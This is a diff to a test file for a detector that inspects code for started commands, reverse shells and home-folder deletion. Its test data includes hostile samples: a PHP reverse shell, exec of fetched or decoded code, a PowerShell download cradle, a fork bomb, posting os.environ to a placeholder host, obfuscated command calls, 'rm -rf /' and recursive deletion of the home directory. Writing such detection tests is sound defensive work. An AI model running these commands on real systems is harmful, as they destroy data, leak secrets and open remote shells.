@@ -6,47 +6,16 @@ from gw.defender.shell.code import inspect, is_inert, is_web_shell
 
 
 @pytest.mark.parametrize(
-    ("language", "code", "commands"),
+    ("code", "commands"),
     [
-        ("python", "import os; os.system('ls -l')", ("ls -l",)),
-        ("python", 'subprocess.run(["rm", "-rf", "/"])', ("rm -rf /",)),
-        ("python", "subprocess.check_output('ls', shell=True)", ("ls",)),
-        ("perl", 'system("ls -l")', ("ls -l",)),
-        ("perl", "`ls -l`", ("ls -l",)),
-        ("perl", "qx/ls -l/", ("ls -l",)),
-        ("ruby", "%x(ls -l)", ("ls -l",)),
-        ("node", "require('child_process').execSync('ls -l')", ("ls -l",)),
-        ("node", "require('child_process').execSync('ls', {stdio: 'inherit'})", ("ls",)),
-        ("lua", 'io.popen("ls", "w")', ("ls",)),
-        ("java", 'Runtime.getRuntime().exec(new String[]{"ls", "-l"})', ("ls -l",)),
-        ("node", 'process.binding("spawn_sync").spawn({file: "/bin/sh", args: []})', ("/bin/sh",)),
-        ("m4", "syscmd(`ls -l')", ("ls -l",)),
-        ("powershell", "Start-Process ls", ("ls",)),
-        ("prolog", "process_create(path(ls), [], [])", ("ls",)),
-        ("gnuplot", "!ls -l", ("ls -l",)),
-        ("php", 'shell_exec("ls -l");', ("ls -l",)),
-        ("awk", '{ "ls" | getline x }', ("ls",)),
-        ("awk", 'BEGIN { system("ls") }', ("ls",)),
-        ("lua", "os.execute('ls')", ("ls",)),
-        ("php", 'passthru("ls -l");', ("ls -l",)),
-        ("tcl", "spawn ls -l; interact", ("ls -l",)),
-        ("m4", "esyscmd(ls -l)", ("ls -l",)),
-        ("tcl", "exec ls -l", ("ls -l",)),
-        ("groovy", '"ls -l".execute()', ("ls -l",)),
-        ("scala", '"ls -l".!', ("ls -l",)),
-        ("erlang", 'os:cmd("ls -l")', ("ls -l",)),
-        ("elixir", 'System.cmd("ls", [])', ("ls",)),
-        ("lisp", '(term "ls")', ("ls",)),
-        ("elixir", ':os.cmd(~c"ls")', ("ls",)),
-        ("node", 'new Deno.Command("ls").spawn()', ("ls",)),
-        ("python", 'os.execvp("ls", ["ls", "-l"])', ("ls -l",)),
-        ("tcl", "exec ls <@ stdin", ("ls ",)),
-        ("awk", 'BEGIN { "sh -c \\"ls\\"" | getline }', ('sh -c "ls"',)),
-        ("python", "print('system of a down')", ()),
+        ("os.system('ls -l')", ("ls -l",)),
+        ("getattr(__import__('o'+'s'),'sys'+'tem')('r'+'m x')", ("rm x",)),
+        ("print('system of a down')", ()),
+        ("print(\"os.system('ls')\")", ()),
     ],
 )
-def test_commands_started(language: str, code: str, commands: tuple[str, ...]) -> None:
-    assert inspect(language, code).commands == commands
+def test_what_python_starts(code: str, commands: tuple[str, ...]) -> None:
+    assert inspect("python", code).commands == commands
 
 
 @pytest.mark.parametrize(
@@ -56,6 +25,7 @@ def test_commands_started(language: str, code: str, commands: tuple[str, ...]) -
         ("php", '$s=fsockopen("h",1);exec("/bin/sh -i <&3 >&3");', "reverse-shell"),
         ("python", "exec(urllib.request.urlopen('http://h').read())", "executes-fetched"),
         ("python", "exec(base64.b64decode(x))", "executes-decoded"),
+        ("python", "requests.post('https://h', json=dict(os.environ))", "sends-secret"),
         ("powershell", "IEX (New-Object Net.WebClient).downloadSTRING(1)", "executes-fetched"),
         ("python", "[os.fork() for _ in iter(int, 1)]", "fork-bomb"),
         ("python", "os.setuid(0)", "code-setuid"),
@@ -189,3 +159,17 @@ def test_code_that_says_and_does(code: str) -> None:
 
 def test_a_path_is_read_whatever_is_printed_besides() -> None:
     assert inspect("python", "print(Path('/etc/x').read_text(), '|')").paths == ("/etc/x",)
+
+
+@pytest.mark.parametrize(
+    ("language", "code", "removed"),
+    [
+        ("node", "require('fs').rmSync(require('os').homedir(), {recursive: true})", ("~",)),
+        ("ruby", "FileUtils.rm_rf(Dir.home)", ("~",)),
+        ("python", "shutil.rmtree(os.path.expanduser('~'))", ("~",)),
+        ("python", "shutil.rmtree(Path.home() / '.cache')", ()),
+        ("ruby", 'puts "FileUtils.rm_rf(Dir.home)"', ()),
+    ],
+)
+def test_a_whole_home_folder_by_its_call(language: str, code: str, removed: tuple[str, ...]) -> None:
+    assert inspect(language, code).removed == removed
